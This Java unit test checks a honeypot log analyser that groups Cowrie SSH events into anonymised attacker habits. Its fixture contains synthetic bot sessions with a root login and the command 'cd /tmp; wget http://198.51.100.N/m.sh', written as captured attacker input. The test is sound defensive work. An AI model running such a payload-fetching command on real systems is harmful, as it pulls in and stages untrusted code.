package yochi.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** {@code habits[]}: what groups of sources say, without addresses, and rare words at home only (M-2). */
class ObserveHabitsTest {
    @TempDir
    private Path folder;

    private static String bot(int i) {
        String session = "\"session\":\"s" + i + "\",\"src_ip\":\"192.0.2." + i + "\"";
        return """
                {"eventid":"cowrie.session.connect",%1$s,"dst_port":22,"timestamp":"2025-02-18T05:%2$02d:41.000000Z"}
                {"eventid":"cowrie.login.success",%1$s,"username":"root","password":"%3$s",\
                "timestamp":"2025-02-18T05:%2$02d:42.000000Z"}
                {"eventid":"cowrie.command.input",%1$s,"input":"cd /tmp; wget http://198.51.100.%2$d/m.sh",\
                "timestamp":"2025-02-18T05:%2$02d:43.000000Z"}
                {"eventid":"cowrie.session.closed",%1$s,"timestamp":"2025-02-18T05:%2$02d:51.000000Z"}
                """
                .formatted(session, i, i == 7 ? "a person's own" : "admin");
    }

    private JsonNode observe(String... more) throws IOException {
        StringBuilder log = new StringBuilder();
        for (int i = 1; i <= 12; i++) {
            log.append(bot(i));
        }
        Path file = Files.writeString(folder.resolve("cowrie.json"), log);
        Stage stage = new Stage();
        String[] all = new String[6 + more.length];
        System.arraycopy(new String[] {"observe", file.toString(), "--sensor", "pot", "--json", "-"}, 0, all, 0, 6);
        System.arraycopy(more, 0, all, 6, more.length);
        stage.run(all);
        JsonNode document = new JsonMapper().readTree(stage.out());
        assertThat(PublishedSchema.faults("observe-1.json", document)).isEmpty();
        return document;
    }

    @Test
    void aGroupsWordsNameNoAddressAndRareOnesAreNotShown() throws IOException {
        JsonNode document = observe();
        JsonNode bots = document.path("habits").get(0);
        assertThat(document.path("habits").toString()).doesNotContain("198.51", "192.0.2", "own");
        assertThat(bots.path("by").asString()).isEqualTo("commands");
        assertThat(bots.path("sources").asLong()).isEqualTo(12);
        assertThat(bots.path("commands").get(1).path("word").asString()).isEqualTo("wget {host}/m.sh");
        assertThat(bots.path("credentials").size()).isEqualTo(1);
        assertThat(bots.path("credentials").get(0).path("sources").asLong()).isEqualTo(11);
        assertThat(bots.path("withheld").asLong()).isEqualTo(1);
        assertThat(bots.path("timing").path("lasted").toString()).isEqualTo("{\"8\":12}");
        assertThat(bots.path("timing").path("hours").get(5).asLong()).isEqualTo(12);
        assertThat(document.path("habitsInAll").asLong()).isEqualTo(1);
        assertThat(document.path("habitsNotHeld").asLong()).isZero();
    }

    @Test
    void atHomeRareWordsAreShown() throws IOException {
        JsonNode bots = observe("--at-home").path("habits").get(0);
        assertThat(bots.path("withheld").asLong()).isZero();
        assertThat(bots.path("credentials").toString()).contains("root/a person's own");
    }
}
